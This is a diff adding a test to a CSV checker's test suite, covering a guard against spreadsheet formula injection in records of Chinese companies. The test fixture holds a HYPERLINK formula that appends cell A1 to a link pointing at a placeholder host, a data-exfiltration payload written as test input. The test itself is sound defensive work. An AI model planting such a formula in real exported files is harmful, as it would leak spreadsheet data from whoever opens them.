@@ -138,6 +138,21 @@ test('quoted fields with commas, quotes and line breaks survive the round trip',
   assert.match(rows[2][7], /第 8 位/); // the message, with its comma-free quotes, in column 8
 });
 
+test('cells a spreadsheet would run as formulas get a leading apostrophe, unless --no-formula-guard', () => {
+  const evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")';
+  const input = `名称,统一社会信用代码,金额,备注\n@SUM(A1:A9),"${evil.replaceAll('"', '""')}",-5,-\n甲公司,${VALID},+86,-2+3\n`;
+  const path = file('formula.csv', input);
+  const rows = csv(run(['check', path]).stdout);
+  assert.deepEqual(rows[1].slice(0, 4), ['\'@SUM(A1:A9)', `'${evil}`, '-5', '-']);
+  assert.equal(rows[1][5], `'${evil.toUpperCase()}`, 'the normalized column comes from the input too');
+  assert.deepEqual(rows[2].slice(0, 5), ['甲公司', VALID, '+86', "'-2+3", 'true']);
+  for (const row of rows) for (const cell of row) assert.ok(!/^[=+@\t\r]/.test(cell) || /^\+\d+$/.test(cell), cell);
+  const raw = csv(run(['check', '--no-formula-guard', path]).stdout);
+  assert.deepEqual(raw[1].slice(0, 4), ['@SUM(A1:A9)', evil, '-5', '-']);
+  assert.equal(raw[2][3], '-2+3');
+  assert.ok(lib.looksLikeFormula('=1') && lib.looksLikeFormula('\t=1') && !lib.looksLikeFormula('1e5') && !lib.looksLikeFormula('a=b'));
+});
+
 test('a UTF-8 BOM is dropped, from the data and from the header names', () => {
   const r = run(['check', '--column', '统一社会信用代码', file('bom.csv', `\uFEFF统一社会信用代码,名称\n${VALID},甲\n`)]);
   assert.equal(r.status, 0, r.stderr);
